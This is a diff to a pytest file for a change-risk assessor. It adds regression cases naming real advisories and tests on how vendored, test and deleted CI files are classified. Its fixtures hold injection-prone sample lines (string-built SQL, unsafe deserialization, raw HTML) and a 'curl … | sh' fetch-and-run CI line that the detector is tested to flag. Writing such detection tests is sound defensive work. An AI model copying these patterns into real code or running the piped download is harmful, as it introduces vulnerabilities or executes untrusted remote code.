@@ -6,6 +6,7 @@ import msgspec
 import pytest
 
 from relay.observe.changes import SAMPLE_LINES
+from relay.observe.code_reading import SAMPLE_CHARS
 from relay.core.contracts import FileChange
 from relay.observe.file_kinds import file_kind, is_secret_path, is_test_path, line_matters
 from relay.review.risk import RULES, RiskContext, assess, assess_all, existing_dependencies, max_risk
@@ -51,7 +52,7 @@ EXAMPLES: dict[str, tuple[FileChange, FileChange, RiskContext]] = {
     ),
     "secret_path": (fc("config/.env.production"), fc(".env.example"), NO_CTX),
     "auth_path": (fc("src/middleware/authMiddleware.ts"), fc("examples/auth/server.py"), NO_CTX),
-    "ci_config": (fc(".github/workflows/release.yml"), fc("docs/workflows.md"), NO_CTX),
+    "ci_config": (fc(".github/workflows/release.yml"), fc(".travis.yml", kind="deleted", deletions=9), NO_CTX),
     "ci_versions": (
         fc(".travis.yml", additions=1, deletions=1, added_lines=['  - "16"'], removed_lines=['  - "6"']),
         fc(".travis.yml", additions=1, deletions=1, added_lines=["  - curl -s https://example.com/x.sh | sh"], removed_lines=['  - "6"']),
@@ -244,6 +245,13 @@ def test_file_change_round_trips_after_assess() -> None:
         ("Makefile", "build"),
         ("dist/bundle.min.js", "generated"),
         ("tap-snapshots/test/unpack.js.test.cjs", "generated"),
+        # Other people's code, copied in: reviewed upstream (joblib 1.2.0's loky outranked the fix).
+        ("joblib/externals/loky/backend/context.py", "generated"),
+        ("src/wheel/vendored/packaging/tags.py", "generated"),
+        ("src/pip/_vendor/rich/text.py", "generated"),
+        ("fuzz/fuzz_targets/parse.rs", "test"),
+        ("t/basic.t", "test"),
+        ("src/parser_test.c", "test"),
         ("assets/logo.png", "data"),
     ],
 )
@@ -293,6 +301,26 @@ def test_auth_path_word_is_quiet_on_import_sorting() -> None:
         ("jwt/keys.py", "    b'-----BEGIN RSA PUBLIC KEY-----',", "keys/certificates"),
         ("src/transport.py", "        self._expected_seqno = 0", "crypto state"),
         ("src/lexer.py", "    (r'\\$([_A-Z]\\w*)?\\$.*?\\$\\1\\$', tokens.Literal),", "regular expression"),
+        # Regressions, found on held-out-2 (overall low): goutils 1.1.1 (GHSA-xg2h-wx96-xgxr, weak
+        # random strings), smallvec 1.6.1 (insert_many's raw copies), gjson 1.6.4 (a missing bound).
+        ("randomstringutils.go", "\t\tposition := rand.Intn(count)", "randomness"),
+        ("lib/token.js", "  const id = crypto.randomBytes(16).toString('hex')", "randomness"),
+        ("src/lib.rs", "                ptr::copy(cur, cur.add(1), old_len - index);", "memory safety"),
+        ("src/buf.c", "    memcpy(dst, src, n);", "memory safety"),
+        ("gjson.go", "\t\t\t\t\tif i >= len(json) {", "limits/overflow"),
+        ("lib/read.js", "  if (pos > buf.length) throw new RangeError('out of range')", "limits/overflow"),
+        # The classic sinks, by name.
+        ("src/xml.py", "    parser = etree.XMLParser(resolve_entities=False, no_network=True)", "XML entities"),
+        ("src/Reader.java", "        factory.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);", "XML entities"),
+        ("lib/config.rb", "    data = YAML.load(text)", "deserialization"),
+        ("src/Session.php", "        $data = unserialize($raw);", "deserialization"),
+        ("src/render.ts", "  el.innerHTML = marked(text)", "HTML injection"),
+        ("app/helpers.py", "    return mark_safe(value)", "HTML injection"),
+        ("src/store.py", "    cur.execute(f\"SELECT * FROM items WHERE name = '{name}'\")", "SQL built from strings"),
+        ("src/store.js", "  db.query(\"DELETE FROM items WHERE id = \" + id)", "SQL built from strings"),
+        ("src/run.go", "\tcmd := exec.Command(\"git\", args...)", "escaping/execution"),
+        ("src/hooks.py", "    subprocess.run(argv, check=True)", "escaping/execution"),
+        ("src/view.go", "\treturn template.HTML(s)", "HTML injection"),
     ],
 )
 def test_security_tokens_fire_on_each_category_in_changed_source_lines(path: str, line: str, category: str) -> None:
@@ -312,6 +340,13 @@ def test_security_tokens_fire_on_each_category_in_changed_source_lines(path: str
         "  const out = [];",
         "\tp := unsafe.Pointer(&buf[0])",
         "  if (value.constructor === Array) {",
+        # A seeded shuffle in data code, a loop over a slice, a length compared with a constant.
+        "    np.random.shuffle(indices)",
+        "\tfor i := 0; i < len(s); i++ {",
+        "    if len(parts) > 3:",
+        # SQL that takes no input, a sentence that starts like SQL.
+        '    cur.execute("SELECT id FROM items")',
+        '    log("Update the cache for " + name)',
     ],
 )
 def test_security_tokens_stay_quiet_on_ordinary_code(line: str) -> None:
@@ -371,12 +406,36 @@ def test_security_tokens_see_bounds_on_sizes(line: str, fires: bool) -> None:
         (["var p = /^\\s+(?:x)*$/;"], ["var p = /^\\s+(?:x)*$/"], False),
         # A division is not a regex literal.
         (["  total = a / b + c / d"], ["  total = a / b + c / e"], False),
+        # Regressions (held-out-2, overall low or ranked below setup.cfg): a pattern written over
+        # several lines of a Python r"""...""" string (wheel 0.38.0's WHEEL_INFO_RE, mako 1.2.2).
+        (['    r"""^(?P<namever>(?P<name>.+?)-(?P<ver>.+?))(-(?P<build>\\d[^-]*))?'],
+         ['    r"""^(?P<namever>(?P<name>[^-]+?)-(?P<ver>[^-]+?))(-(?P<build>\\d[^-]*))?'], True),
+        (["            ((?:\\s+\\w+|\\s*=\\s*|\".*?\"|'.*?')*)  # attrname, = \\"],
+         ["            ((?:\\s+\\w+|\\s*=\\s*|\"[^\"]*?\"|'[^']*?'|\\s*,\\s*)*)  # attrname, = \\"], True),
+        # A ReDoS fix that scans by hand instead (trim-newlines 4.0.1); a pattern deleted with
+        # the little code around it is not one.
+        (["\treturn string.replace(/[\\r\\n]+$/, '');"], ["\tlet end = string.length;", "\twhile (end > 0 && string[end - 1] === '\\n') {",
+          "\t\tend--;", "\t}", "\treturn string.slice(0, end);"], True),
+        (["\treturn string.replace(/[\\r\\n]+$/, '');"], ["\treturn string;"], False),
     ],
 )
 def test_security_tokens_see_an_edited_regular_expression(removed: list[str], added: list[str], fires: bool) -> None:
     change = fc("index.js", additions=len(added), deletions=len(removed), added_lines=added, removed_lines=removed)
     out = assess(change, NO_CTX)
     assert (out.risk == "high" and "regular expression" in out.reasons[0]) is fires, out.reasons
+
+
+def test_security_tokens_see_a_regular_expression_longer_than_the_sample_line() -> None:
+    # Regression: semver-regex 4.0.1 (CVE-2021-3795) edits a 230-character one-line pattern; the
+    # sample keeps 200 characters of a line, so neither side held a whole literal and it was low.
+    old = "\treturn /(?<=^v?|\\sv?)(?:(?:0|[1-9]\\d*)\\.){2}(?:0|[1-9]\\d*)(?:-(?:0|[1-9]\\d*|[\\da-z-]*[a-z-][\\da-z-]*)" + "(?:\\.[\\da-z-]+)*" * 12 + "/gi;"
+    new = old.replace("[1-9]\\d*)\\.", "[1-9]\\d{0,9})\\.")
+    cut = [line[:SAMPLE_CHARS] for line in (old, new)]
+    assert all(len(line) == SAMPLE_CHARS for line in cut)
+    out = assess(fc("index.js", additions=1, deletions=1, removed_lines=[cut[0]], added_lines=[cut[1]]), NO_CTX)
+    assert out.risk == "high" and "regular expression" in out.reasons[0], out.reasons
+    same = assess(fc("index.js", additions=1, deletions=1, removed_lines=[cut[0]], added_lines=[cut[0] + ""]), NO_CTX)
+    assert same.risk == "low", same.reasons
 
 
 def test_security_tokens_ignore_a_token_line_a_formatter_only_rewrapped() -> None:
@@ -407,6 +466,31 @@ def test_assess_all_raises_source_beside_a_test_naming_an_advisory() -> None:
     assert out["CHANGES"].risk == "low" and out["tests/test_clean.py"].risk == "low"
     plain = {c.path: c for c in assess_all([shim, fc("tests/test_clean.py", additions=1, added_lines=["def test_noscript():"])], NO_CTX)}
     assert plain["bleach/html5lib_shim.py"].risk == "low"
+
+
+@pytest.mark.parametrize(
+    ("test", "found"),
+    [
+        # Regression: smallvec 1.6.1's fix came with "fn test_insert_many_overflow" and was overall low.
+        (fc("src/tests.rs", additions=3, added_lines=["#[test]", "fn test_insert_many_overflow() {", "    assert_eq!(&*v, &[0, 2, 4, 123]);"]), "overflow"),
+        (fc("test/parse.js", additions=1, added_lines=["it('rejects too deep nesting', () => {"]), "too deep"),
+        # Regression: go-yaml 2.2.8 (CVE-2019-11254) added a case to limit_test.go, named nothing.
+        (fc("limit_test.go", additions=1, added_lines=['\t{name: "1000kb of 10000-nested lines", data: []byte(x)},']), "limit_test.go"),
+    ],
+)
+def test_assess_all_raises_source_beside_a_test_named_for_an_attack_or_a_bound(test: FileChange, found: str) -> None:
+    source = fc("src/lib.rs", additions=3, deletions=1, removed_lines=["    self.reserve(n);"], added_lines=["    let mut added = 0;", "    self.reserve(n);", "    added += 1;"])
+    out = {c.path: c for c in assess_all([source, test], NO_CTX)}
+    assert out["src/lib.rs"].risk == "medium" and found in out["src/lib.rs"].reasons[0], out["src/lib.rs"].reasons
+    assert all(line_matters(test.path, line) for line in test.added_lines if "name" in line or "fn " in line)
+    # A case named for what it parses, or an attack word in a case's body only, says nothing.
+    # A formatter's run over a file named for security re-wraps its cases and adds none (jinja 04c87871).
+    rewrapped = fc("tests/test_security.py", additions=2, deletions=1, removed_lines=["    def test_unsafe(self, env): assert f(env)"],
+                   added_lines=["    def test_unsafe(self, env):", "        assert f(env)"])
+    for quiet in (fc("src/tests.rs", additions=2, added_lines=["fn test_insert_many() {", "    assert_eq!(v.max_size(), 3);"]),
+                  fc("parse_test.go", additions=1, added_lines=['\t{name: "nested lines", data: []byte(x)},']), rewrapped):
+        plain = {c.path: c for c in assess_all([source, quiet], NO_CTX)}
+        assert plain["src/lib.rs"].risk == "low", plain["src/lib.rs"].reasons
 
 
 def test_security_tokens_do_not_read_comments() -> None:
@@ -546,6 +630,15 @@ def test_a_dependency_moved_between_manifests_is_not_new() -> None:
 def test_a_dependency_moved_with_another_spelling_is_not_new() -> None:
     out = assess_all([fc("setup.cfg", removed_lines=["    typing_extensions>=4"]), fc("pyproject.toml", added_lines=['    "typing-extensions>=4",'])], NO_CTX)
     assert all("adds a dependency" not in r for c in out for r in c.reasons)
+
+
+def test_a_deleted_pipeline_or_hook_is_a_deleted_file_not_code_that_runs() -> None:
+    # Regression: minimatch 281de34 (a control) deleted .travis.yml and it came out high with
+    # "runs with repository secrets"; a deleted pipeline runs nothing.
+    for path in (".travis.yml", ".github/workflows/ci.yml", ".husky/pre-commit"):
+        out = assess(fc(path, kind="deleted", deletions=9), NO_CTX)
+        assert out.risk == "medium" and out.reasons[0].startswith("deletes a file"), out.reasons
+    assert assess(fc("docs/workflows.md"), NO_CTX).risk == "low"
 
 
 def test_changelog_folder_is_not_a_migration() -> None:
